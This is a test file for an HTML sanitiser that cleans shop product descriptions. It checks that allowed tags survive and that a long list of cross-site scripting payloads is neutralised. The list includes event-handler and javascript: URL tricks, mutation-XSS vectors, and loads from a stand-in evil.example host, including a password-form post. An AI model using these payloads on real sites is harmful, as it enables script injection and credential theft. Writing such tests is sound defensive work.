import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { sanitiseDescription } from './sanitise-description.ts';

/** The whole language of what may be stored: text without angle brackets, plain tags, and links with two attributes. */
const SAFE =
  /^(?:[^<>]|<\/?(?:p|b|strong|i|em|ul|ol|li|blockquote|h[1-6])>|<br \/>|<\/a>|<a href="(?:https?:\/\/|mailto:)[^"\s<>]+" rel="noopener nofollow">)*$/i;

describe('what a shop owner writes survives', () => {
  test.each([
    '<p>A <b>hardy</b> and <strong>undemanding</strong> <i>plant</i>, <em>slow</em>.</p>',
    '<ul><li>Easy</li><li>Low light</li></ul><ol><li>Rinse</li><li>Plant</li></ol>',
    '<blockquote><p>Our favourite.</p></blockquote>',
    '<h1>One</h1><h2>Two</h2><h3>Three</h3><h4>Four</h4><h5>Five</h5><h6>Six</h6>',
    'One line<br />and another',
    '5 &lt; 6 &amp; 7 &gt; 6, "quoted", it\'s ₹349, मछली 🐟',
    '<a href="https://example.com/a?b=1&amp;c=2#d" rel="noopener nofollow">a</a>',
    '<a href="http://example.com" rel="noopener nofollow">a</a>',
    '<a href="mailto:shop@example.com" rel="noopener nofollow">a</a>',
  ])('%s', (html) => expect(sanitiseDescription(html)).toBe(html));

  test('a link gets its rel and loses everything else', () => {
    expect(
      sanitiseDescription('<a href=" https://example.com " target="_blank" rel="opener" onclick="x()" class="y">a</a>'),
    ).toBe('<a href="https://example.com" rel="noopener nofollow">a</a>');
  });

  test('a link to somewhere else becomes its text', () => {
    for (const href of ['/shop', '//evil.example', 'ftp://example.com', 'tel:123', '#top', '']) {
      expect(sanitiseDescription(`<p>see <a href="${href}">this <b>page</b></a></p>`)).toBe(
        '<p>see this <b>page</b></p>',
      );
    }
  });

  test('other tags go, their text stays', () => {
    expect(sanitiseDescription('<div class="x"><table><tr><td>cell</td></tr></table><u>under</u></div>')).toBe(
      'cellunder',
    );
  });

  test('tags that were left open are closed', () => {
    expect(sanitiseDescription('<ul><li><b>open')).toBe('<ul><li><b>open</b></li></ul>');
    expect(sanitiseDescription('text</b></div></main>')).toBe('text');
  });
});

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/src="data:,alert(1)">',
  '<<script>alert(1)//<</script>',
  '<script>alert(1)',
  '</p><script>alert(1)</script><p>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"//',
  '<img """><script>alert(1)</script>">',
  '<img src="javascript:alert(1)">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<image src=x onerror=alert(1)>',
  '<picture><source srcset="x" onerror=alert(1)><img src=x></picture>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="javascript&#58;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="https://x" onmouseover="alert(1)">x</a>',
  '<a href=\'https://x" onclick="alert(1)\'>x</a>',
  '<a href="https://x\u0022onclick=alert(1)">x</a>',
  '<a href="https://x" style="position:fixed;inset:0">x</a>',
  '<a name="x" id="y" href="//evil.example">x</a>',
  '<p onclick="alert(1)">x</p>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<b/onmouseover=alert(1)>x</b>',
  '<li id=x tabindex=1 onfocus=alert(1) autofocus>x</li>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style><img src="</style><img src=x onerror=alert(1)>"></style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>',
  '<iframe><img src=x onerror=alert(1)>',
  '<object data="javascript:alert(1)"><embed src="javascript:alert(1)"></object>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<body onload=alert(1)><marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><a href="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<noembed><noframes><plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '<p>\u2028<\u0000script>alert(1)</script>',
  '\ufeff<ſcript>alert(1)</ſcript>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<',
  '<a href="https://x',
  '<a/href=https://x/onclick=alert(1)>x',
];

describe(`of ${attacks.length} attacks nothing is left but text and allowed tags`, () => {
  test.each(attacks)('%s', (html) => {
    const clean = sanitiseDescription(html);
    expect(clean).toMatch(SAFE);
    expect(sanitiseDescription(clean)).toBe(clean);
    const among = sanitiseDescription(`<p>before</p>${html}<p>after</p>`);
    expect(among).toMatch(SAFE);
    expect(among).toContain('<p>before</p>');
  });
});

test('attacks and tags in any order leave nothing else either, and the second time changes nothing', () => {
  const pieces = [
    '<p>',
    '</p>',
    '<a href="https://x">',
    '<a href="x">',
    '</a>',
    '<ul>',
    '<li>',
    '</ul>',
    '<h2>',
    '<br>',
  ];
  const html = fc
    .array(fc.constantFrom(...attacks, ...pieces, 'text'), { maxLength: 8 })
    .map((parts) => parts.join(''));
  fc.assert(
    fc.property(html, (text) => {
      const clean = sanitiseDescription(text);
      expect(clean).toMatch(SAFE);
      expect(sanitiseDescription(clean)).toBe(clean);
    }),
    { numRuns: 1000 },
  );
});

test('deep nesting is no way through', () => {
  expect(sanitiseDescription(`${'<b>'.repeat(6000)}<script>alert(1)</script>`)).toMatch(SAFE);
});

test('what is emptied by this is an empty paragraph', () => {
  expect(sanitiseDescription('<script>alert(1)</script>')).toBe('<p></p>');
});
